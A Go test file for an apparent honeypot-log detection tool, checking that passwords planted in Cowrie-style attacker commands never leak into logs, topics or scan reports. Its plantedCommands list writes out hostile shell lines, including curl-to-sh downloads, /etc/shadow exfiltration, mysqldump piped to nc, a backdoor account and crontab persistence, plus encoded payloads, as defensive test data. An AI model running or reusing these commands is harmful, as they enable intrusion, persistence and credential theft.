package main

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ttpstream/ttpstream/rules"
	"github.com/ttpstream/ttpstream/schemas"
	"github.com/ttpstream/ttpstream/topology"
	"github.com/ttpstream/ttpstream/topology/topologytest"
)

// plantedCommands are commands with a secret where attackers put one: %s.
var plantedCommands = []string{
	"echo 'root:%s' | chpasswd",
	"echo \"root:%s\"|chpasswd|bash",
	"chpasswd <<< root:%s",
	"printf 'root:%%s\\n' '%s' | chpasswd -e",
	"sshpass -p %s ssh root@203.0.113.9 id",
	"sshpass -p'%s' scp /etc/shadow root@203.0.113.9:/tmp",
	"SSHPASS=%s sshpass -e ssh root@203.0.113.9",
	"curl -u admin:%s http://203.0.113.9/x.sh -o /tmp/x.sh",
	"curl --user=admin:%s -k https://203.0.113.9/x.sh | sh",
	"curl -H 'Authorization: Bearer %s' http://203.0.113.9/a.sh | sh",
	"wget http://bob:%s@203.0.113.9/mips; chmod 777 mips; ./mips",
	"wget --user=bob --password=%s ftp://203.0.113.9/mips",
	"ftpget -u bob -p %s 203.0.113.9 mips mips",
	"git clone https://bob:%s@203.0.113.9/r.git",
	"mysql -uroot -p%s -e 'select user from mysql.user'",
	"mysqldump --password=%s --all-databases | nc 203.0.113.9 4444",
	"PGPASSWORD=%s psql -h 203.0.113.9 -c 'select 1'",
	"export PGPASSWORD='%s'; psql -h 203.0.113.9",
	"export AWS_SECRET_ACCESS_KEY=%s; aws s3 ls",
	"echo -e 'old\\n%s\\n%[1]s' | passwd root",
	"echo %s | passwd --stdin root",
	"echo %s | sudo -S cat /etc/shadow",
	"useradd -p %s -m backdoor; usermod -aG sudo backdoor",
	"usermod --password=%s root",
	"openssl passwd -1 %s",
	"redis-cli -h 203.0.113.9 -a %s flushall",
	"smbclient //203.0.113.9/c$ -U 'adm%%%s'",
	"docker login -u bob -p %s registry.example",
	"bash -c \"sshpass -p '%s' ssh root@203.0.113.9\"",
	"(crontab -l; echo '* * * * * curl -u c:%s http://203.0.113.9/x | sh') | crontab -",
	"cd /tmp && P=%s; sshpass -p $P ssh root@203.0.113.9 'uname -a'",
	"curl -u 'admin:%s", // a quote that never closes: no valid shell
}

// plantedLayers are commands in which the whole command before is encoded.
var plantedLayers = []struct {
	command string
	encode  func([]byte) string
}{
	{"echo %s | base64 -d | sh", base64.StdEncoding.EncodeToString},
	{"echo %s | xxd -r -p | bash", hex.EncodeToString},
	{"echo -e '%s' | sh", func(raw []byte) (text string) {
		for _, b := range raw {
			text += fmt.Sprintf("\\x%02x", b)
		}
		return text
	}},
}

// secretLog is a log with secrets in it, each a word of its own, and what of
// it must be found nowhere: the words, and the layers they lie in.
type secretLog struct {
	t       *testing.T
	text    strings.Builder
	lines   int
	secrets []string
}

func newSecretLog(t *testing.T) *secretLog {
	t.Helper()
	l := &secretLog{t: t}
	l.say("session.connect", map[string]any{"src_port": 40022, "dst_ip": "192.0.2.10", "dst_port": 22, "message": "New connection"})
	for _, id := range []string{"login.failed", "login.success"} {
		secret := l.secret()
		l.say(id, map[string]any{"username": "root", "password": secret, "message": "login attempt [root/" + secret + "]"})
	}
	for _, command := range plantedCommands {
		l.command(fmt.Sprintf(command, l.secret()))
	}
	for _, layer := range plantedLayers {
		inner := layer.encode([]byte("sshpass -p " + l.secret() + " ssh root@203.0.113.9"))
		l.secrets = append(l.secrets, inner)
		l.command(fmt.Sprintf(layer.command, inner))
	}
	l.say("command.failed", map[string]any{"input": "sshpass -p " + l.secret() + " ssh root@203.0.113.9", "message": "Command not found"})
	l.say("session.file_download", map[string]any{"url": "http://bob:" + l.secret() + "@203.0.113.9/mips", "shasum": strings.Repeat("ab", 32), "outfile": "x", "message": "Downloaded"})
	l.say("direct-tcpip.data", map[string]any{"dst_ip": "203.0.113.9", "dst_port": 80, "message": "forwarded",
		"data": `b'POST /login HTTP/1.1\r\nAuthorization: Basic ` + l.secret() + `\r\n\r\nuser=a&password=` + l.secret() + `'`})
	l.text.WriteString(`{"eventid":"cowrie.login.failed","password":"` + l.secret() + `",` + "\n") // refused
	return l
}

func (l *secretLog) secret() string {
	secret := rand.Text()
	l.secrets = append(l.secrets, secret)
	return secret
}

func (l *secretLog) command(command string) {
	l.say("command.input", map[string]any{"input": command, "message": "CMD: " + command})
}

func (l *secretLog) say(id string, event map[string]any) {
	event["eventid"], event["session"], event["src_ip"], event["sensor"], event["protocol"] = "cowrie."+id, "abcdef012345", "198.51.100.9", "pot", "ssh"
	event["timestamp"] = fmt.Sprintf("2026-03-01T00:%02d:%02d.000000Z", l.lines/60, l.lines%60)
	l.lines++
	raw, err := json.Marshal(event)
	if err != nil {
		l.t.Fatal(err)
	}
	l.text.Write(append(raw, '\n'))
}

// absent fails where a text holds a secret.
func (l *secretLog) absent(where, text string) {
	l.t.Helper()
	for _, secret := range l.secrets {
		if at := strings.Index(text, secret); at >= 0 {
			l.t.Errorf("%s holds a secret: …%.160s", where, text[max(0, at-80):])
		}
	}
}

// greedyRules are rules that put all they can get hold of into evidence: one
// for each text that rules may look into.
func greedyRules(t *testing.T) string {
	t.Helper()
	var files []string
	for _, kind := range []schemas.SourceKind{schemas.KindCommand, schemas.KindAuthAttempt, schemas.KindSession, schemas.KindTransfer} {
		for _, field := range rules.Fields(kind) {
			if field.Type == "text" {
				files = append(files, fmt.Sprintf("rule_id: X%d\nrule_version: 1\nname: greedy\nattack_release: enterprise-v19.1\n"+
					"applies_to: [{source_kind: %s}]\nmatch:\n  greedy: {'%s|re': '(?s).+'}\n  condition: greedy\n"+
					"emits:\n  - {tactic: TA0007, technique_id: T1083, confidence: 0.9}\n", 9100+len(files), kind, field.Name))
			}
		}
	}
	dir := t.TempDir()
	for i, text := range files {
		writeFileText(t, filepath.Join(dir, fmt.Sprintf("x%d.yaml", i)), text)
	}
	return dir
}

// Secrets are on the fact topics, where rules need them, and nowhere else: no
// other topic, no log line at the most talkative level. A dead letter may hold
// the line that it is about.
func TestSecretsStayOnTheFactTopics(t *testing.T) {
	t.Parallel()
	topologytest.OnBrokers(t, func(t *testing.T, cluster topology.Cluster) {
		log := newSecretLog(t)
		path := writeTemp(t, "secrets.json", log.text.String())
		flags := append([]string{"--log-level", "debug"}, clusterArgs(cluster)...)
		ctx, cancel := context.WithTimeout(t.Context(), patience)
		defer cancel()
		process := startChild(t, nil, append([]string{"process", "--state-dir", filepath.Join(t.TempDir(), "state")}, flags...)...)
		process.must(ctx, "running as ")
		publish := append([]string{"rules", "publish", "--skip-tests"}, flags...)
		ran := []*child{process, runChild(t, nil, publish...), runChild(t, nil, append(publish, greedyRules(t))...)}
		admin := topologytest.Admin(t, cluster)
		inForce(ctx, t, cluster, admin, 1)
		ran = append(ran, runChild(t, nil, append([]string{"ingest", path}, flags...)...))
		for _, c := range ran[1:] {
			if c.code != exitDone {
				t.Fatalf("code %d\n%s", c.code, c.stderr())
			}
		}
		drained(ctx, t, admin)
		process.interrupt()
		process.wait(ctx)
		for _, c := range ran {
			log.absent("output of "+strings.Join(c.command.Args[1:3], " "), c.stdout()+c.stderr())
		}
		if !strings.Contains(process.stderr(), "level=DEBUG") {
			t.Error("process said nothing of what it may say")
		}
		log.absentFromTopics(t, cluster)
	})
}

// absentFromTopics looks through every topic but those of facts and dead
// letters.
func (l *secretLog) absentFromTopics(t *testing.T, cluster topology.Cluster) {
	t.Helper()
	may := map[string]bool{topology.DeadLetter.Name: true}
	for _, topic := range factTopics {
		may[topic.Name] = true
	}
	held := 0
	for _, topic := range append(topology.Topics(), topology.Changelogs()...) {
		for _, record := range readTopic(t, cluster, topic) {
			text := fmt.Sprintf("%s %s", record.Key, record.Value)
			for _, header := range record.Headers {
				text += " " + header.Key + " " + string(header.Value)
			}
			if !may[topic.Name] {
				l.absent(record.Where(), text)
				continue
			}
			for _, secret := range l.secrets {
				if strings.Contains(text, secret) {
					held++
					break
				}
			}
		}
	}
	if held < len(plantedCommands) {
		t.Errorf("only %d facts hold a secret: the test looks for the wrong thing", held)
	}
	if tags := readTopic(t, cluster, topology.Tagged); len(tags) < 10*len(plantedCommands) {
		t.Errorf("%d tags: too few to have proved anything", len(tags))
	}
}

// The same of what scan prints and writes.
func TestScanShowsNoSecret(t *testing.T) {
	t.Parallel()
	log := newSecretLog(t)
	path, greedy := writeTemp(t, "secrets.json", log.text.String()), greedyRules(t)
	layer := filepath.Join(t.TempDir(), "layer.json")
	for _, args := range [][]string{{"scan", path, "--navigator", layer, "--report", layer + ".report"}, {"scan", "--json", path}} {
		c := runChild(t, nil, append(args, "--rules", greedy, "--log-level", "debug")...)
		if c.code != exitDone {
			t.Fatalf("code %d\n%s", c.code, c.stderr())
		}
		log.absent(strings.Join(args, " "), c.stdout()+c.stderr())
	}
	log.absent("layer", readText(t, layer))
	log.absent("report", readText(t, layer+".report"))
}
